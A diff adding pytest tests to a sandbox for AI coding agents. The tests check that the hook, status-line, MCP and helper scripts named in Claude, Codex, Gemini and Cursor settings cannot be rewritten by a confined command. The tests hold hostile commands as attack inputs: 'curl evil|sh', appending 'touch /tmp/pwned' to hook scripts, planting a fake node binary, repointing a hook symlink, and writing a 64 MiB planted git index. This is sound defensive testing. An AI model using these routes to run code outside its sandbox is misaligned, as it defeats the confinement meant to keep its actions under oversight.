@@ -304,3 +304,133 @@ def test_protected_home_entries_under_missing_parents_are_guarded(
     attack(f"mkdir -p {target.parent} && echo 'curl evil|sh' > {target}", target.exists,
            _reset(top))
     assert not target.exists()
+
+
+# -- class 3: what the agents' settings run --------------------------------------------
+
+def _settings(project: Path, name: str, content: object) -> None:
+    path = project / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(content if isinstance(content, str) else json.dumps(content))
+
+
+def _hook(command: str) -> dict[str, object]:
+    return {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
+        {"type": "command", "command": command}]}]}}
+
+
+SCRIPT_CASES = [
+    # The documented layout, through the project variable.
+    (".claude/settings.json", _hook('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh'),
+     ".claude/hooks/guard.sh"),
+    # An interpreter and a script, relative to the project.
+    (".claude/settings.local.json", _hook("python3 tools/check.py --strict"),
+     "tools/check.py"),
+    # The status line and a helper.
+    (".claude/settings.json", {"statusLine": {"type": "command",
+                                              "command": "bash scripts/status.sh"}},
+     "scripts/status.sh"),
+    (".claude/settings.json", {"apiKeyHelper": "./bin/key"}, "bin/key"),
+    # MCP servers: command and args.
+    (".mcp.json", {"mcpServers": {"x": {"command": "node", "args": ["srv/index.js"]}}},
+     "srv/index.js"),
+    (".codex/config.toml", '[mcp_servers.x]\ncommand = "./mcp/run.sh"\n', "mcp/run.sh"),
+    (".codex/config.toml", 'notify = ["python3", "hooks/notify.py"]\n', "hooks/notify.py"),
+    (".codex/hooks.json", _hook("./.codex/hooks/pre.sh"), ".codex/hooks/pre.sh"),
+    # Gemini's settings may hold comments.
+    (".gemini/settings.json", '{\n  // ours\n  "hooks": {"BeforeTool": [{"hooks": ['
+     '{"type": "command", "command": "$GEMINI_PROJECT_DIR/.gemini/h.sh"}]}]}}\n',
+     ".gemini/h.sh"),
+    (".gemini/settings.json", {"tools": {"discoveryCommand": "bin/discover"}},
+     "bin/discover"),
+    # Cursor's hooks name scripts from the `.cursor` folder.
+    (".cursor/hooks.json", {"version": 1, "hooks": {"beforeShellExecution": [
+        {"command": "./hooks/gate.sh"}]}}, ".cursor/hooks/gate.sh"),
+]
+
+
+@pytest.mark.parametrize(("settings", "content", "script"), SCRIPT_CASES)
+def test_scripts_the_agents_settings_run_are_read_only(
+        attack: Attack, project: Path, settings: str, content: object,
+        script: str) -> None:
+    """The settings are read-only; the script they name must be too, or a command
+    rewrites it and the agent runs it unconfined at its next tool call."""
+    _settings(project, settings, content)
+    target = project / script
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text("#!/bin/sh\nexit 0\n")
+    attack(f"echo 'touch /tmp/pwned' >> {script}", lambda: "pwned" in target.read_text(),
+           lambda: target.write_text("#!/bin/sh\nexit 0\n"))
+
+
+def test_a_missing_script_the_settings_name_is_moved_aside(
+        attack: Attack, project: Path, home: Path) -> None:
+    """Next variant: the hook names a script that does not exist yet; the command
+    creates it."""
+    _settings(project, ".claude/settings.json", _hook(".claude/hooks/late.sh"))
+    target = project / ".claude" / "hooks" / "late.sh"
+    attack("mkdir -p .claude/hooks && echo 'touch /tmp/pwned' > .claude/hooks/late.sh",
+           target.exists, _reset(project / ".claude" / "hooks"))
+    _runs_again(project, home)
+
+
+def test_a_program_the_settings_run_by_name_from_a_project_path_dir(
+        attack: Attack, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Next variant: the hook runs `node` by name, and PATH has the project's
+    `node_modules/.bin` first: a planted `node` there would run unconfined."""
+    monkeypatch.setenv("PATH", f"{project}/node_modules/.bin:{os.environ['PATH']}")
+    _settings(project, ".claude/settings.json", _hook("node hook.js"))
+    planted = project / "node_modules" / ".bin" / "node"
+    attack("mkdir -p node_modules/.bin && printf '#!/bin/sh\\n' > node_modules/.bin/node",
+           planted.exists, _reset(project / "node_modules"))
+
+
+def test_a_link_to_what_the_settings_run_is_checked_after(
+        attack: Attack, project: Path, home: Path) -> None:
+    """Next variant: the script is reached through a link (`.claude/hooks/guard.sh ->
+    ../../tools/guard.sh`); a link cannot be mounted read-only, so its target is, and
+    a link the command changed is moved aside after the run."""
+    tools = project / "tools"
+    tools.mkdir()
+    (tools / "guard.sh").write_text("#!/bin/sh\nexit 0\n")
+    (tools / "evil.sh").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
+    hooks = project / ".claude" / "hooks"
+    hooks.mkdir(parents=True)
+    link = hooks / "guard.sh"
+    link.symlink_to("../../tools/guard.sh")
+    _settings(project, ".claude/settings.json", _hook(".claude/hooks/guard.sh"))
+
+    def reset() -> None:
+        link.unlink()
+        link.symlink_to("../../tools/guard.sh")
+
+    attack("ln -sfn ../../tools/evil.sh .claude/hooks/guard.sh",
+           lambda: link.is_symlink() and "evil" in os.readlink(link), reset)
+    assert "exit 0" in (tools / "guard.sh").read_text()
+    assert os.readlink(link) == "../../tools/guard.sh"  # put back as it was
+    _runs_again(project, home)
+
+
+# -- class 7: a planted git index bounds the reader's work, not only its input --------
+
+@pytest.mark.parametrize("fill", ["pattern", "random"])
+def test_a_planted_index_does_not_slow_every_later_run(
+        confined: Callable[..., RunResult], repo: Path, home: Path, fill: str) -> None:
+    """A command writes a 64 MiB `.git/index` (`.env` repeated: every byte a false
+    start for the search; or random bytes: a full scan per hidden path). Every later
+    run looks in it for the hidden files git tracks: before, 27 s and 3 s a run."""
+    import time
+
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "permissions.yaml").write_text("".join(
+        f"- rule: ReadFile(d{i}/.env)\n  effect: deny\n" for i in range(30)))
+    for i in range(30):
+        (repo / f"d{i}").mkdir()
+        (repo / f"d{i}" / ".env").write_text("K=V\n")
+    body = "head -c 67108864 /dev/urandom" if fill == "random" else \
+        "yes .env | tr -d '\\n' | head -c 67108864"
+    confined(f"{{ printf 'DIRC\\0\\0\\0\\2\\0\\0\\0\\1'; {body}; }} > .git/index")
+    assert (repo / ".git" / "index").stat().st_size > 64 << 20  # the plant is there
+    start = time.perf_counter()
+    Sandbox(repo, home=home).spec()
+    assert time.perf_counter() - start < 2.0
